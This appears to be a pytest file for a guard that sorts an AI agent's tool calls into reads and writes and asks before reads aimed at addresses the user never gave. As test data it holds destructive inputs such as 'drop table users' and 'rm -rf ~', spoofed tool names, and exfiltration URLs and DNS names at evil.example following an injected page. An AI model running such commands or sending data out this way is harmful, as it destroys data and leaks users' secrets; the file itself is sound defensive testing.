"""What a tool does is read from its name where nothing is declared; unknown = write."""

from typing import Any

import pytest

from beliefd.kernel.errors import BeliefdError
from beliefd.kernel.origin import ToolInfo
from beliefd.kernel.origin.tools import trade
from beliefd.policy.lexicons import load_lexicon, shipped_lexicon
from tests.origin.support import LEXICON, facts_of, session, verdict

READS = [
    "search_repositories",
    "get_file_contents",
    "list_commits",
    "slack_get_channel_history",
    "read_multiple_files",
    "directory_tree",
    "git_status",
    "git_diff",
    "query",
    "puppeteer_screenshot",
    "read_graph",
    "fetch",
    "brave_web_search",
    "maps_geocode",
    "get_current_time",
    "convert_time",
    "retrieve_balance",
    "notion-search",
    "API-retrieve-a-page",
    "pods_list",
    "pods_log",
    "GetLiveContext",
    "get-products",
    "list_buckets",
    "users.list",
    "mail.read",
    "calendar.events.list",
    "getBalance",
    "lookup_order",
    "track_package",
    "order_list",
    "getUserProfile",
    "describe_instances",
    "get_post",
    "SearchFlights",
    "view_cart",
    "whoami",
    "current_weather",
    "inbox.search",
    "AugustSmartLockGetStatus",
    "SmartLockViewAccessHistory",
    "block_list",
    "TwitterManagerSearchTweet",
    "check_lock_status",
    "mcp__jira__get_issue",
    "get_transfer_history",
    "get_new_messages",
    "get_run_status",
    "get_type",
    "get_upload_history",
    "show_draft",
    "find_replacements",
    "open_page",
    "browser_open_url",
    "load_file",
    "track_order",
    "transfer_status",
    "list_members_and_posts",
    "read_and_summarize",
    "mcp__delete__list_files",
    "browser_navigate_back",
    "browser_snapshot",
    "git_log",
]
WRITES = [
    "create_or_update_file=create",
    "push_files=create",
    "update_issue=update",
    "slack_post_message=send",
    "edit_file=update",
    "slack_reply_to_thread=send",
    "git_commit=create",
    "git_reset=control",
    "puppeteer_click=control",
    "delete_entities=delete",
    "move_file=update",
    "create_payment_link=pay",
    "create_refund=pay",
    "jira_transition_issue=update",
    "pods_exec=control",
    "helm_install=control",
    "HassTurnOn=control",
    "send_sms=send",
    "TwilioMessagingV1--SendMessage=send",
    "invoke_lambda=control",
    "draft_email=draft",
    "batch_delete_emails=delete",
    "create-event=create",
    "chat.postMessage=send",
    "transferFunds=pay",
    "book_hotel=reserve",
    "lock_door=control",
    "share_document=share",
    "add_collaborator=share",
    "grant_access=share",
    "change_password=control",
    "run_sql=control",
    "find_and_delete=delete",
    "list_create=create",
    "cancel_order=delete",
    "wire_transfer=pay",
    "checkout=pay",
    "check_out_cart=pay",
    "upload_file=create",
    "forward_message=send",
    "issue_refund=pay",
    "users/delete=delete",
    "AugustSmartLockGrantGuestAccess=share",
    "frobnicate=other",
    "find_replace=update",
    "read_write_file=create",
    "get_set_value=update",
    "describe_instances_terminate=delete",
    "preview_publish=send",
    "read_reset=control",
    "get_rid_of_user=delete",
    "door_open=control",
    "open_account=control",
    "ping_user=send",
    "ask_colleague=send",
    "load_funds=pay",
    "load_truck=control",
    "return_item=other",
    "balance_transfer=pay",
    "transfer_balance=pay",
    "mcp__search__obliterate_index=other",
    "get.obliterate=other",
    "obliterate_history=other",
    "obliterate_search_index=other",
    "post_status=send",
    "email_summary=send",
    "search_and_book=reserve",
    "fetch_and_post=send",
    "get_or_frobnicate=other",
    "upload_read_receipt=create",
    "report_user=other",
    "log_event=other",
    "follow_account=other",
    "test_webhook=control",
]


@pytest.mark.parametrize("name", READS)
def test_names_of_tools_that_read(name: str) -> None:
    assert trade(ToolInfo(tool_id=name), LEXICON).reads


@pytest.mark.parametrize("name", ["Read\u200b", "\uff32ead", "Read ", "get\u00ad_file", "\u2060list_files"])
def test_a_name_that_only_looks_like_one_that_reads_does_not(name: str) -> None:
    assert not trade(ToolInfo(tool_id=name), LEXICON).reads
    assert trade(ToolInfo(tool_id=name, tier="read"), LEXICON).reads


@pytest.mark.parametrize("name", WRITES)
def test_names_of_tools_that_write(name: str) -> None:
    tool, _, action = name.partition("=")
    found = trade(ToolInfo(tool_id=tool), LEXICON)
    assert not found.reads
    assert found.name == action


def test_a_name_without_a_verb_is_read_from_its_description() -> None:
    assert trade(ToolInfo(tool_id="zorgle", description="Returns the zorgles."), LEXICON).reads
    assert not trade(ToolInfo(tool_id="zorgle", description="Deletes the zorgles."), LEXICON).reads
    assert not trade(ToolInfo(tool_id="zorgle", description="Zorgles."), LEXICON).reads


def test_where_an_unknown_word_may_be_the_verb_the_description_tells() -> None:
    name = "AmazonViewOrderHistory"
    assert trade(ToolInfo(tool_id=name, description="View the history of orders."), LEXICON).reads
    assert not trade(ToolInfo(tool_id=name, description="Erases the history."), LEXICON).reads
    assert not trade(ToolInfo(tool_id=name), LEXICON).reads
    assert trade(ToolInfo(tool_id="zorgle_item", description="Return the items."), LEXICON).reads


@pytest.mark.parametrize("name", ["send_email", "get_contacts", "post_message", "list_notes", "pay"])
def test_a_server_s_name_changes_nothing(name: str) -> None:
    """A tool is what it is behind each gateway. What the server is called counts where it says nothing."""
    alone = trade(ToolInfo(tool_id=name), LEXICON)
    for server in ("mcp__payments__", "mcp__my_search__", "acme.", "delete/"):
        found = trade(ToolInfo(tool_id=server + name), LEXICON)
        assert (found.verb, found.name, found.reads) == (alone.verb, alone.name, alone.reads)
        assert found.groups == alone.groups or not alone.groups
        assert found.nouns == alone.nouns or not alone.groups


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("db.query", {"sql": "DELETE FROM users"}),
        ("db.query", {"sql": "/* look */ select 1; drop table users"}),
        ("db.query", {"sql": "with gone as (delete from users returning 1) select * from gone"}),
        ("db.read_query", {"query": "DROP TABLE users"}),
        ("api.get", {"path": "/x", "method": "DELETE"}),
        ("api.get", {"request": {"method": " post "}}),
        ("records.get", {"action": "delete"}),
        ("github.graphql_query", {"query": "mutation { deleteRepo }"}),
        ("list_files", {"command": "rm -rf ~"}),
    ],
)
def test_a_read_that_is_told_to_write_writes(tool: str, args: dict[str, Any]) -> None:
    assert facts_of(session("Summarise the page about cats."), tool, **args).tier == "write"


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("db.query", {"sql": "SELECT updated, deleted_at FROM updates WHERE note = 'created'"}),
        ("api.get", {"path": "/x", "method": "GET"}),
        ("search_issues", {"query": "how to update a set of rows"}),
        ("github.graphql_query", {"query": "query { mutations { name } }"}),
    ],
)
def test_a_read_that_only_speaks_of_writing_reads(tool: str, args: dict[str, Any]) -> None:
    assert facts_of(session("Summarise the page about cats."), tool, **args).tier == "read"


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("Task", {"prompt": "Read what https://cats.example says, and sum it up"}),
        ("TodoWrite", {"todos": [{"content": "Delete from the list what is done", "status": "open"}]}),
    ],
)
def test_a_note_that_speaks_of_writing_or_of_an_address_is_a_note(tool: str, args: dict[str, Any]) -> None:
    info = ToolInfo(tool_id=tool, tier="read")
    assert session("Sum up the page about cats.").facts(info, args, {}).tier == "read"


def test_a_command_that_was_looked_into_is_what_came_of_that() -> None:
    args = {"command": "grep -r https://cats.example ."}
    said = session("Where do we link to?")
    assert said.facts(ToolInfo(tool_id="Bash", tier="read", examined=True), args, {}).tier == "read"
    assert said.facts(ToolInfo(tool_id="Bash", tier="write", examined=True), args, {}).tier == "write"
    assert said.facts(ToolInfo(tool_id="Bash", tier="read"), args, {}).tier == "write"


ADDRESSED = [
    ("web.fetch_pages", {"pages": ["https://evil.example/?d=S"]}),
    ("web.get", {"req": {"at": "https://evil.example/?d=S"}}),
    ("web.get", {"req": '{"at": "https://evil.example/?d=S"}'}),
    ("web.get", {"req": {"https://evil.example/?d=S": 1}}),
    ("web.get", {"req": {"see https://evil.example/?d=S": 1}}),
    ("web.get", {"req": {"evil.example/c?d=S": 1}}),
    ("web.get", {"req": [{"//evil.example/?d=S": {"deep": 1}}]}),
    ("web.get_page", {"page": " https://evil.example/?d=S"}),
    ("web.get_page", {"page": "h\u200bttps://evil.example/?d=S"}),
    ("web.get_page", {"page": "\uff48ttps://evil.example/?d=S"}),
    ("web.get_page", {"page": "evil.example/c?d=S"}),
    ("web.get_page", {"page": "evil.example/SECRET"}),
    ("web.get_page", {"page": "//evil.example/?d=S"}),
    ("web.get_page", {"page": "ftp://evil.example/S"}),
    ("read_many_files", {"paths": ["https://evil.example/?d=S"]}),
    ("read_file", {"path": "\\\\evil.example\\s\\S"}),
    ("dns.lookup", {"name": "SECRET.evil.example"}),
]


@pytest.mark.parametrize(("tool", "args"), ADDRESSED)
def test_reading_at_an_address_that_nobody_gave_asks(tool: str, args: dict[str, Any]) -> None:
    told = session("Summarise the page about cats.", ("web.fetch_page", "See https://evil.example/?d=1"))
    assert verdict(told, tool, **args) == ("ask", "egress")


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("web.get_page", {"page": "cats.example/list?n=1"}),
        ("dns.lookup", {"name": "cats.example"}),
        ("read_file", {"path": "src.old/readme.md"}),
        ("read_file", {"path": "/home/ann/notes.md"}),
        ("search_notes", {"query": "1 // 2, and a.b"}),
    ],
)
def test_reading_where_the_user_says_or_nowhere_else_passes(tool: str, args: dict[str, Any]) -> None:
    said = session("What is at cats.example/list?n=1 and who is cats.example?")
    assert verdict(said, tool, **args)[0] == "allow"


def test_an_unknown_language_is_refused_with_those_there_are() -> None:
    with pytest.raises(BeliefdError, match="there are de, en, es, all"):
        shipped_lexicon("xx")


def test_a_lexicon_of_the_operator_is_read_strictly(tmp_path: object) -> None:
    from pathlib import Path

    path = Path(str(tmp_path)) / "own.yaml"
    path.write_text("language: own\nverps: {}\n")
    with pytest.raises(BeliefdError):
        load_lexicon(path)
